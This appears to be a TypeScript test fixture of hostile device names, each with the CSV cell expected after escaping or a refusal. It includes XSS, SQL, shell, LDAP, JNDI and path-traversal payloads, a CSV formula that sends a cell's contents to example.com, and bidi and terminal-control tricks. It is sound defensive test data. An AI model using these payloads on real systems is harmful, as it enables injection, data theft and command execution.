/** What a hostile device may call itself, and what becomes of it. */
export interface HostileText {
  readonly what: string;
  readonly text: string;
  /** The cell of a CSV file that it makes; null where it is refused, as it cannot be shown in one line as it is. */
  readonly cell: string | null;
}

const kept = (what: string, text: string, cell = text): HostileText => ({ what, text, cell });
const refused = (what: string, text: string): HostileText => ({ what, text, cell: null });

/** At most 64 characters each, so that every field takes them whose bounds they are to be tried at. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  kept('a script', '<script>alert(1)</script>'),
  kept('a script that ends another', '</script><script>alert(1)</script>'),
  kept('an image that fails', '<img src=x onerror=alert(1)>'),
  kept('a drawing with a handler', '<svg/onload=alert(1)>'),
  kept('a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  kept('a link that is a script', '<a href="javascript:alert(1)">help</a>'),
  kept('the address of a script', 'javascript:alert(1)'),
  kept('an address of data', 'data:text/html,<script>alert(1)</script>'),
  kept('a style', '<style>*{display:none}</style>'),
  kept('the end of an attribute', '" onmouseover="alert(1)'),
  kept('the end of an attribute in single quotes', "' onfocus='alert(1)' autofocus='"),
  kept('the end of a title', '</title><h1>Sign in again</h1>'),
  kept('a comment that stays open', '<!-- '),
  kept('a template of Angular', '{{constructor.constructor("alert(1)")()}}'),
  kept('a template of a program', '${7*7}#{7*7}<%= 7*7 %>'),
  kept('a text by its key', '{{ "app.title" | translate }}', '\'{{ "app.title" | translate }}'),
  kept('an entity', '&lt;b&gt;&amp;&#60;script&#62;'),
  kept('an escape of JSON', '\\u003cscript\\u003e\\n\\"'),
  kept('a statement of SQL', "'; DROP TABLE client; --", "'; DROP TABLE client; '--"),
  kept('a pattern of SQL', "%_\\%' OR '1'='1"),
  kept('a command of a shell', '`reboot`; $(reboot) && reboot'),
  kept('a line of LDAP', '*)(uid=*))(|(uid=*'),
  kept('a path', '../../../../etc/passwd'),
  kept('a lookup of a logger', '${jndi:ldap://example.com/a}'),
  kept('Markdown', '[help](javascript:alert(1)) ![](https://example.com/p.png)'),
  kept('a formula', '=1+1', "'=1+1"),
  kept('a formula that calls a program', "=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
  kept(
    'a formula that sends',
    '=HYPERLINK("https://example.com/"&A1,"x")',
    '\'=HYPERLINK("https://example.com/"&A1,"x")',
  ),
  kept('a formula by a plus', '+1+cmd', "'+1+cmd"),
  kept('a formula by a minus', '-2+3+cmd', "'-2+3+cmd"),
  kept('a formula by an at', '@SUM(1+1)', "'@SUM(1+1)"),
  kept('a formula behind a blank', ' =1+1', "' =1+1"),
  kept('a formula behind what has no width', '\u200b=1+1', "'\u200b=1+1"),
  kept('a formula in full width', '\uff1d1+1', "'\uff1d1+1"),
  kept('a formula behind the end of a cell', 'a";=1+1', 'a";\'=1+1'),
  kept('a pipe', 'x | calc', "'x | calc"),
  kept('quotes of CSV', '","=1+1","'),
  kept('letters of another alphabet that look alike', 'аdmіn'),
  kept('marks on marks', `a${'\u0301'.repeat(60)}`),
  kept('a picture of several characters', '👩‍👩‍👧‍👦🏴‍☠️'),
  kept('the name of an object', '__proto__'),
  kept('nothing by name', 'null'),
  refused('a line that ends', 'a\nb'),
  refused('a line of a header', 'a\r\nSet-Cookie: sid=1'),
  refused('a tab', '\t=1+1'),
  refused('a zero', 'a\0b'),
  refused('a bell', 'a\u0007'),
  refused('a color of a terminal', '\u001b[31mred\u001b[0m'),
  refused('a title of a terminal', '\u001b]0;title\u0007'),
  refused('a control of eight bits', 'a\u009b31m'),
  refused('a delete', 'a\u007f'),
  refused('an override to the left', 'gpj.\u202eexe'),
  refused('an embedding', '\u202aabc\u202c'),
  refused('an isolate', '\u2067abc\u2069'),
  refused('a mark of direction', 'abc\u200f'),
  refused('a mark of Arabic letters', 'abc\u061c'),
  refused('a separator of lines', 'a\u2028b'),
  refused('a separator of paragraphs', 'a\u2029b'),
  refused('a mark of byte order', '\ufeff=1+1'),
  refused('half a character', 'a\ud83d'),
];
